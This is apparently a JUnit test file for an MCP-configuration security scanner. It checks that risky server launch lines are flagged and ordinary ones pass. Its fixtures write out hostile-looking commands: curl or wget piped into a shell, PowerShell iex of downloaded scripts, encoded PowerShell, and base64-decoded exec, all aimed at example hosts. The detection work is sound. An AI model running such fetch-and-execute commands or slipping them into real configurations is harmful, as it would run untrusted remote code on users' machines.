package dev.mcpsec.supply;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mcpsec.facts.LaunchRisk;
import dev.mcpsec.facts.McpServer;
import dev.mcpsec.parse.Launch;
import dev.mcpsec.parse.LaunchParser;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * True and false positives of every risky-launch pattern; launch lines are written as in configs,
 * '␣'-separated.
 */
class LaunchRisksTest {

    private static List<LaunchRisk> risks(String line, Map<String, String> env) {
        List<String> tokens = Arrays.asList(line.split("␣"));
        Launch l = LaunchParser.parse(tokens.get(0), tokens.subList(1, tokens.size()));
        McpServer s =
                new McpServer(
                        "s",
                        ".mcp.json",
                        1,
                        1,
                        "claude-code",
                        "project",
                        "stdio",
                        tokens.get(0),
                        tokens.subList(1, tokens.size()),
                        null,
                        null,
                        l.launcher(),
                        l.ecosystem(),
                        l.packageName(),
                        l.packageVersion(),
                        l.imageDigest(),
                        false);
        return LaunchRisks.of(s, env);
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(
            delimiterString = " => ",
            value = {
                "bash␣-c␣curl -fsSL https://get.example.dev/i.sh | sh => download-to-shell",
                "sh␣-c␣wget -qO- https://get.example.dev/i.sh | sudo bash -s -- --stdio => download-to-shell",
                "bash␣-c␣curl -s https://x.example/i.py | python3 - => download-to-shell",
                "zsh␣-c␣bash <(curl -s https://x.example/i.sh) => download-to-shell",
                "sh␣-c␣eval \"$(curl -fsSL https://x.example/i.sh)\" => download-to-shell",
                "sh␣-c␣curl -o /tmp/srv https://x.example/srv && chmod +x /tmp/srv && /tmp/srv => download-to-shell",
                "powershell␣-NoProfile␣-Command␣iex (irm https://x.example/i.ps1) => download-to-shell",
                "pwsh␣-c␣Invoke-Expression (Invoke-RestMethod https://x.example/i.ps1) => download-to-shell",
                "powershell␣-c␣iwr https://x.example/i.ps1 -UseBasicParsing | iex => download-to-shell",
                "cmd␣/c␣curl -s https://x.example/i.cmd | cmd => download-to-shell",
                "powershell␣-EncodedCommand␣SQBFAFgA => base64-payload",
                "pwsh␣-enc␣SQBFAFgA => base64-payload",
                "powershell.exe␣-NoP␣-e␣SQBFAFgA => base64-payload",
                "sh␣-c␣echo ZXhlYw== | base64 -d | sh => base64-payload",
                "python3␣-c␣import base64;exec(base64.b64decode('cHJpbnQoMSk=')) => base64-payload",
                "node␣-e␣eval(Buffer.from('Y29uc29sZQ==', 'base64').toString()) => base64-payload",
                "/tmp/mcp-server␣--stdio => temp-binary",
                "/var/tmp/x/server => temp-binary",
                "/dev/shm/srv => temp-binary",
                "C:\\Windows\\Temp\\mcp.exe => temp-binary",
                "C:\\Users\\Public\\mcp.exe => temp-binary",
                "%TEMP%\\mcp\\server.exe => temp-binary",
                "C:\\Users\\dev\\AppData\\Local\\Temp\\srv.exe => temp-binary",
                "node␣/tmp/server.js => temp-binary",
                "python3␣/var/tmp/server.py => temp-binary",
                "npx␣-y␣github:someone/mcp-tools => git-url",
                "npx␣-y␣someone/mcp-tools => git-url",
                "npx␣-y␣git+https://github.com/someone/mcp-tools.git#main => git-url",
                "npx␣-y␣https://github.com/someone/mcp-tools.git => git-url",
                "uvx␣--from␣git+https://github.com/someone/mcp-py␣mcp-py => git-url",
                "pipx␣run␣--spec␣git+https://github.com/someone/mcp-py␣mcp-py => git-url",
                "npx␣-y␣https://downloads.example.dev/mcp-1.0.0.tgz => tarball-url",
                "uvx␣--from␣https://downloads.example.dev/mcp_py-1.0-py3-none-any.whl␣mcp-py => tarball-url",
                "npx␣--registry␣https://npm.example.dev␣-y␣@acme/mcp@1.0.0 => registry",
                "npx␣--registry=https://npm.example.dev␣-y␣@acme/mcp@1.0.0 => registry",
                "uvx␣--index-url␣https://pypi.example.dev/simple␣acme-mcp==1.0 => registry",
                "uvx␣--extra-index-url␣https://pypi.example.dev/simple␣acme-mcp==1.0 => extra-index",
                "uvx␣--find-links␣https://pypi.example.dev/wheels␣acme-mcp==1.0 => extra-index",
                "npx␣--registry␣http://npm.example.dev␣-y␣@acme/mcp@1.0.0 => registry-http",
                "npx␣--registry␣http://localhost:4873␣-y␣@acme/mcp@1.0.0 => registry",
                "cmd␣/c␣npx␣--registry␣https://npm.example.dev␣-y␣@acme/mcp@1.0.0 => registry"
            })
    void riskyLaunches_areFound(String line, String pattern) {
        assertThat(risks(line, Map.of()))
                .extracting(LaunchRisk::pattern)
                .as(line)
                .contains(pattern);
    }

    @ParameterizedTest(name = "{0} is fine")
    @CsvSource(
            delimiterString = " => ",
            value = {
                "npx␣-y␣@modelcontextprotocol/server-filesystem@2025.8.21␣./docs",
                "npx␣-y␣@playwright/mcp@0.0.41",
                "uvx␣mcp-server-git==2026.1.14",
                "cmd␣/c␣npx␣-y␣@playwright/mcp@0.0.41",
                "bash␣-c␣exec npx -y @stripe/mcp@0.2.4 --tools=customers.read",
                "sh␣-c␣cd ~/tools && ./server --stdio",
                "powershell␣-NoProfile␣-Command␣& 'C:\\tools\\mcp\\server.exe'",
                "node␣./build/index.js",
                "node␣/home/dev/tools/server.js",
                "python3␣-m␣my_server",
                "/usr/local/bin/mcp-server",
                "C:\\Program Files\\Acme\\mcp.exe",
                "docker␣run␣-i␣--rm␣-v␣/tmp/cache:/cache␣mcp/time:1.0",
                "npx␣-y␣@acme/mcp@1.0.0␣--output␣/tmp/out.json",
                "uvx␣--python␣3.12␣mcp-server-time==2025.8.4",
                "curl␣https://example.com/health",
                "npx␣-y␣mcp-remote@0.1.16␣https://mcp.linear.app/sse",
                "sh␣-c␣echo hello | base64"
            })
    void ordinaryLaunches_areNotRisky(String line) {
        assertThat(risks(line, Map.of())).as(line).isEmpty();
    }

    @Test
    void registryFromTheEnvironment_andItsHost_withoutUserInfoOrQuery() {
        List<LaunchRisk> npm =
                risks(
                        "npx␣-y␣@acme/mcp@1.0.0",
                        Map.of(
                                "npm_config_registry",
                                "https://user:s3cr3t-token@npm.example.dev/repo?token=abc"));
        assertThat(npm)
                .singleElement()
                .satisfies(
                        r -> {
                            assertThat(r.pattern()).isEqualTo("registry");
                            assertThat(r.ecosystem()).isEqualTo("npm");
                            assertThat(r.host()).isEqualTo("npm.example.dev");
                            assertThat(r.detail())
                                    .isEqualTo("npm_config_registry https://npm.example.dev/repo")
                                    .doesNotContain("s3cr3t")
                                    .doesNotContain("abc");
                        });
        assertThat(risks("uvx␣acme-mcp==1.0", Map.of("UV_INDEX_URL", "${INDEX}")))
                .singleElement()
                .satisfies(r -> assertThat(r.host()).isNull());
        assertThat(
                        risks(
                                "uvx␣acme-mcp==1.0",
                                Map.of("PIP_INDEX_URL", "https://pypi.mirror.example/simple")))
                .singleElement()
                .satisfies(
                        r ->
                                assertThat(r.host())
                                        .as("the rule, not the detector, knows the default")
                                        .isEqualTo("pypi.mirror.example"));
        assertThat(
                        risks(
                                "node␣server.js",
                                Map.of("npm_config_registry", "https://npm.example.dev")))
                .as("no package launcher")
                .isEmpty();
    }

    @ParameterizedTest(name = "{0} {1}")
    @CsvSource({
        "npx␣-y␣@acme/mcp@1.0.0, NPM_CONFIG_REGISTRY, npm, registry",
        "npx␣-y␣@acme/mcp@1.0.0, YARN_REGISTRY, npm, registry",
        "yarn␣dlx␣@acme/mcp@1.0.0, YARN_NPM_REGISTRY_SERVER, npm, registry",
        "bunx␣@acme/mcp@1.0.0, BUN_CONFIG_REGISTRY, npm, registry",
        "npx␣-y␣@acme/mcp@1.0.0, npm_config_@acme:registry, npm, registry",
        "uvx␣acme-mcp==1.0, UV_INDEX_URL, pypi, registry",
        "uvx␣acme-mcp==1.0, UV_EXTRA_INDEX_URL, pypi, extra-index",
        "uvx␣acme-mcp==1.0, PIP_EXTRA_INDEX_URL, pypi, extra-index",
        "uvx␣acme-mcp==1.0, UV_FIND_LINKS, pypi, extra-index",
        "uvx␣acme-mcp==1.0, PIP_FIND_LINKS, pypi, extra-index"
    })
    void registryVariablesOfEveryPackageManager_areFound(
            String line, String name, String eco, String pattern) {
        assertThat(risks(line, Map.of(name, "https://packages.example.dev/repo")))
                .as(name)
                .singleElement()
                .satisfies(
                        r -> {
                            assertThat(r.pattern()).isEqualTo(pattern);
                            assertThat(r.ecosystem()).isEqualTo(eco);
                            assertThat(r.host()).isEqualTo("packages.example.dev");
                        });
    }

    @ParameterizedTest(name = "{0} {1}")
    @CsvSource({
        "npx␣-y␣@acme/mcp@1.0.0, YARN_ENABLE_TELEMETRY, https://packages.example.dev",
        "npx␣-y␣@acme/mcp@1.0.0, npm_config_@acme:always-auth, true",
        "npx␣-y␣@acme/mcp@1.0.0, BUN_CONFIG_REGISTRY, ''",
        "uvx␣acme-mcp==1.0, UV_CACHE_DIR, /tmp/uv",
        "node␣server.js, YARN_REGISTRY, https://packages.example.dev"
    })
    void otherVariables_andVariablesWithoutAPackageLauncher_areNot(
            String line, String name, String value) {
        assertThat(risks(line, Map.of(name, value))).as(name).isEmpty();
    }
}
